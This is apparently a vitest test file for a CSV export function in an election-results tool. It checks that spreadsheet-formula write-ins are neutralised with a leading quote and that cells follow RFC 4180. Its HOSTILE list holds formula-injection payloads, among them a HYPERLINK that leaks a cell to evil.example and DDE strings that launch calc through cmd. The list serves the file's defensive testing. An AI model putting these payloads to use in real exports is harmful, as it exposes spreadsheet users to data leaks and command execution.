import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../src/results/export/csv.ts';

/** One cell as csvLine writes it: a line of that cell alone, without its CRLF. */
const csvCell = (value: string | number | null | undefined): string => csvLine([value]).slice(0, -2);

/** Write-ins a voter could type to run something in the spreadsheet an editor opens the export in. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Dr. Smith")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＠SUM(A1)',
];

describe('CSV cells', () => {
  it.each(HOSTILE)('a write-in %j gets a leading quote mark, so a spreadsheet shows it as text', (text) => {
    const cell = csvCell(text);
    const [[read]] = parse(`${cell}\r\n`, { record_delimiter: '\r\n' }) as string[][];
    expect(read).toBe(`'${text}`);
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
  });

  it('quotes a cell with a comma, quote, CR or LF the RFC 4180 way, and only then', () => {
    expect(csvLine(['=HYPERLINK("x","y")', 'Smith, Jane', 'two\nlines', 'a\rb', 'plain', ' spaced '])).toBe(
      `"'=HYPERLINK(""x"",""y"")","Smith, Jane","two\nlines","a\rb",plain, spaced \r\n`,
    );
  });

  it('leaves numbers as they are, negative ones included, but not a text that only looks like one', () => {
    expect(csvLine([-4, 0, 3.5, -0.25, '-4', '42'])).toBe("-4,0,3.5,-0.25,'-4,42\r\n");
  });

  it('writes nothing for a missing value and ends every line with CRLF', () => {
    expect(csvLine([null, undefined, ''])).toBe(',,\r\n');
    expect(csvCell(null)).toBe('');
    expect(csvLine(['a', 'b']) + csvLine(['c', 'd'])).toBe('a,b\r\nc,d\r\n');
  });

  it('reads back, through a CSV parser, as exactly what was written (the escape mark aside)', () => {
    const row = ['Jane "JJ" Doe', 'Smith,\r\nJohn', '=1', 7, -7];
    expect(parse(csvLine(row), { record_delimiter: '\r\n' })).toEqual([['Jane "JJ" Doe', 'Smith,\r\nJohn', "'=1", '7', '-7']]);
  });
});
